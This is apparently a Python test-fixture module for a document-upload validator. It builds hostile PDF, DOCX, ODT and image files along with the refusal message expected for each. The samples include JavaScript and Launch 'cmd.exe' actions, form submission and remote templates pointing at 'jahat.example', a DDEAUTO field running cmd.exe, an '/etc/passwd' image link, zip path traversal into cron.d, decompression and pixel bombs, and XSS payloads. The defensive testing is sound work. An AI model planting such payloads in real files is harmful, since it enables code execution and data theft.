"""Files that hostile visitors send: name, bytes, and a piece of the sentence by which each is refused."""

import struct
import zipfile
import zlib
from io import BytesIO
from typing import Any

import pikepdf
from PIL import Image

from tests.support.manuscript_files import LETTER, MACRO_TYPE, docx, locked, odt, paragraph, scan, zipped

Hostile = tuple[str, bytes, str]
_TEXT = paragraph("Pada suatu hari seekor kancil berjalan di tepi sungai.")
_WORD = docx(_TEXT)
_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ACTS, CARRIES, OUTSIDE, MACROS = "berjalan sendiri", "membawa berkas lain", "dari luar dirinya", "berisi makro"
LOCKED, DAMAGED, LARGE, PROGRAM, UNKNOWN = "kata sandi", "rusak", "terlalu", "Berkas ini program", "tidak dapat dibaca"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


def _pdf(**root: object) -> bytes:
    """The letter with this in its catalogue."""
    out = BytesIO()
    with pikepdf.open(BytesIO(LETTER)) as document:
        for key, value in root.items():
            document.Root[f"/{key}"] = value
        document.save(out)
    return out.getvalue()


def _action(kind: str, **more: Any) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **more)


def _with_annotation(**annotation: Any) -> bytes:
    out = BytesIO()
    with pikepdf.open(BytesIO(LETTER)) as document:
        made = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Rect=[0, 0, 9, 9], **annotation)
        document.pages[0].Annots = pikepdf.Array([document.make_indirect(made)])
        document.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def _with_attachment() -> bytes:
    out = BytesIO()
    with pikepdf.open(BytesIO(LETTER)) as document:
        document.attachments["hadiah.exe"] = b"MZ program"
        document.save(out)
    return out.getvalue()


def _hidden_name() -> bytes:
    """JavaScript whose names are written in another way."""
    return (
        _pdf(OpenAction=_action("JavaScript", JS="app.alert(1)"))
        .replace(b"/JavaScript", b"/Java#53cript")
        .replace(b"/JS", b"/J#53")
    )


def _relation(kind: str, target: str, mode: str = "External") -> str:
    return f'<Relationships><Relationship Id="r9" Type="{_REL}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'


def _with_part(name: str, data: bytes, base: bytes = _WORD) -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(base)) as before, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for entry in before.infolist():
            archive.writestr(entry.filename, before.read(entry))
        archive.writestr(name, data)
    return out.getvalue()


def _lying_size() -> bytes:
    """A part that says it is small and unpacks to 200 MB."""
    bomb = bytearray(_with_part("word/media/image1.png", bytes(200_000_000)))
    for sign, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = bomb.rfind(sign)
        bomb[place + offset : place + offset + 4] = struct.pack("<I", 1000)
    return bytes(bomb)


def _pixel_bomb() -> bytes:
    """A PNG of a few bytes that says it is 60,000 × 60,000."""
    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    chunks = ((b"IHDR", head), (b"IDAT", zlib.compress(bytes(1000))), (b"IEND", b""))
    packed = (struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data)) for kind, data in chunks)
    return b"\x89PNG\r\n\x1a\n" + b"".join(packed)


def _drawing(**attributes: str) -> str:
    said = " ".join(f'{key.replace("_", ":")}="{value}"' for key, value in attributes.items())
    return f'<text:p>Teks<draw:frame xmlns:xlink="http://www.w3.org/1999/xlink"><draw:image {said}/></draw:frame></text:p>'


def _field(code: str) -> bytes:
    return docx(
        _TEXT + f"<w:p><w:r><w:instrText>{code[:4]}</w:instrText></w:r><w:r><w:instrText>{code[4:]}</w:instrText></w:r></w:p>"
    )


HOSTILE: dict[str, Hostile] = {
    "pdf that runs JavaScript": ("a.pdf", _pdf(OpenAction=_action("JavaScript", JS="app.alert(1)")), ACTS),
    "pdf that runs JavaScript by another name": ("a.pdf", _hidden_name(), ACTS),
    "pdf that starts a program": ("a.pdf", _with_annotation(A=_action("Launch", F="cmd.exe")), ACTS),
    "pdf that prints itself": ("a.pdf", _pdf(OpenAction=_action("Named", N=pikepdf.Name("/Print"))), ACTS),
    "pdf that sends its form away": ("a.pdf", _with_annotation(A=_action("SubmitForm", F="http://jahat.example")), ACTS),
    "pdf that opens another file": ("a.pdf", _with_annotation(A=_action("GoToR", F="\\\\jahat\\a")), ACTS),
    "pdf with a script for a link": ("a.pdf", _with_annotation(A=_action("URI", URI="javascript:alert(1)")), ACTS),
    "pdf that acts when a page opens": ("a.pdf", _with_annotation(AA=pikepdf.Dictionary(O=_action("Hide"))), ACTS),
    "pdf with a file inside": ("a.pdf", _with_attachment(), CARRIES),
    "pdf with a film": ("a.pdf", _with_annotation(Subtype=pikepdf.Name("/RichMedia")), CARRIES),
    "pdf with a password": ("a.pdf", locked(scan()), LOCKED),
    "pdf that is junk": ("a.pdf", b"%PDF-1.7\n" + b"junk" * 500 + b"\n%%EOF", DAMAGED),
    "pdf that is an archive too": ("a.pdf", LETTER + zipped({"a.exe": "MZ"}), UNKNOWN),
    "program renamed": ("a.pdf", b"MZ\x90\0" + bytes(300), PROGRAM),
    "program of Linux renamed": ("a.docx", b"\x7fELF" + bytes(300), PROGRAM),
    "word with macros": ("a.docx", docx(_TEXT, main_type=MACRO_TYPE), MACROS),
    "word with macros under another name": (
        "a.docx", docx(_TEXT, **{"word/_rels/document.xml.rels": _relation("vbaProject", "gambar.bin", "Internal")}), MACROS),
    "word with an old file inside": ("a.docx", _with_part("word/media/image1.png", _OLE), CARRIES),
    "word with a program inside": ("a.docx", _with_part("word/media/image1.png", b"MZ" + bytes(300)), CARRIES),
    "word with a template from afar": (
        "a.docx", docx(_TEXT, **{"word/_rels/settings.xml.rels": _relation("attachedTemplate", "http://jahat.example/a.dotm")}),
        OUTSIDE),
    "word with a template on a share": (
        "a.docx", docx(_TEXT, **{"word/_rels/settings.xml.rels": _relation("attachedTemplate", "file:///\\\\jahat\\a.dotm")}),
        OUTSIDE),
    "word with a picture from afar": (
        "a.docx", docx(_TEXT, **{"word/_rels/document.xml.rels": _relation("image", "http://jahat.example/a.png")}), OUTSIDE),
    "word with an object": (
        "a.docx", docx(_TEXT, **{"word/_rels/document.xml.rels": _relation("oleObject", "a.bin", "Internal")}), CARRIES),
    "word with a web page": (
        "a.docx", docx(_TEXT, **{"word/_rels/document.xml.rels": _relation("aFChunk", "a.html", "Internal")}), CARRIES),
    "word that asks another program": ("a.docx", _field('DDEAUTO c:\\cmd.exe "/k calc"'), OUTSIDE),
    "word with entities": ("a.docx", docx(_TEXT, **{"word/x.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), DAMAGED),
    "word with a part twice": ("a.docx", _with_part("word/Document.xml", b"<a/>"), DAMAGED),
    "word that climbs out": ("a.docx", _with_part("../../etc/cron.d/a", b"x"), DAMAGED),
    "word that unpacks without end": ("a.docx", _lying_size(), ""),
    "word with something before it": ("a.docx", b"#!/bin/sh\n" + _WORD, PROGRAM),
    "word with something behind it": ("a.docx", _WORD + b"<script>alert(1)</script>", UNKNOWN),
    "word of long ago": ("a.doc", _OLE, "Word lama"),
    "word with a password": ("a.docx", _OLE, LOCKED),
    "odt with macros": ("a.odt", odt("<text:p>Teks</text:p>", **{"Basic/Standard/Module1.xml": "<a/>"}), MACROS),
    "odt with a script": (
        "a.odt", odt('<text:p>a</text:p><office:scripts><script:event-listener xmlns:script="s"/></office:scripts>'), MACROS),
    "odt with a picture from afar": ("a.odt", odt(_drawing(xlink_href="http://jahat.example/a.png")), OUTSIDE),
    "odt with a picture of this computer": ("a.odt", odt(_drawing(xlink_href="file:///etc/passwd")), OUTSIDE),
    "odt with an object": ("a.odt", odt("<text:p>Teks<draw:object-ole/></text:p>"), CARRIES),
    "odt with a password": (
        "a.odt", odt("<text:p>Teks</text:p>", **{"META-INF/manifest.xml": "<m><encryption-data/></m>"}), LOCKED),
    "text that is a page": ("a.txt", b"  <!DOCTYPE html><script>alert(1)</script>", UNKNOWN),
    "text that is a picture": ("a.txt", b"\x89PNG\r\n\x1a\n" + bytes(30), UNKNOWN),
    "text that is junk": ("a.txt", bytes(range(1, 255)) * 3, "bukan teks"),
    "picture that is a page": ("a.jpg", b"<html><script>alert(1)</script>", UNKNOWN),
    "picture that is a drawing": ("a.png", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', UNKNOWN),
    "picture that only begins": ("a.jpg", b"\xff\xd8\xff\xe0" + bytes(300), "bukan gambar"),
    "picture of a billion dots": ("a.png", _pixel_bomb(), "juta titik"),
    "page by its own name": ("a.html", b"<html>", UNKNOWN),
    "picture with two endings": ("a.jpg.exe", b"\xff\xd8\xff\xe0", UNKNOWN),
}  # fmt: skip


def harmless() -> dict[str, tuple[str, bytes]]:
    """Files that look a little like these and are taken."""
    link = docx(_TEXT, **{"word/_rels/document.xml.rels": _relation("hyperlink", "https://contoh.example/")})
    template = docx(_TEXT, **{"word/_rels/settings.xml.rels": _relation("attachedTemplate", "file:///C:/Sekolah/Surat.dotx")})
    page = odt(
        '<text:p>Teks <text:a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="https://contoh.example/">x</text:a></text:p>'
    )
    return {
        "pdf that opens at its page": ("a.pdf", _pdf(OpenAction=pikepdf.Array([0, pikepdf.Name.Fit]))),
        "pdf with a link": (
            "a.pdf",
            _with_annotation(Subtype=pikepdf.Name.Link, A=_action("URI", URI="https://contoh.example/")),
        ),
        "word with a link": ("a.docx", link),
        "word made from the school's template": ("a.docx", template),
        "odt with a link": ("a.odt", page),
        "odt with a picture": ("a.odt", odt(_drawing(xlink_href="Pictures/1.png"), **{"Pictures/1.png": "x"})),
        "text with old letters": ("a.txt", "Sajak “hujan”".encode("cp1252")),
    }


def photo_from_a_phone(kind: str = "JPEG") -> bytes:
    """A picture that lies on its side, with a place, a camera, a comment and something hung on behind it."""
    exif = Image.Exif()
    exif[0x0112], exif[0x0110] = 6, "Kamera Contoh"
    exif.get_ifd(0x8825)[1] = "S"
    exif.get_ifd(0x8825)[2] = (0.0, 47.0, 0.0)
    out = BytesIO()
    more = {"comment": b"rahasia"} if kind == "JPEG" else {}
    Image.new("RGB", (60, 40), "red").save(out, kind, exif=exif, **more)
    return out.getvalue() + b"PK\x03\x04 hadiah <script>"
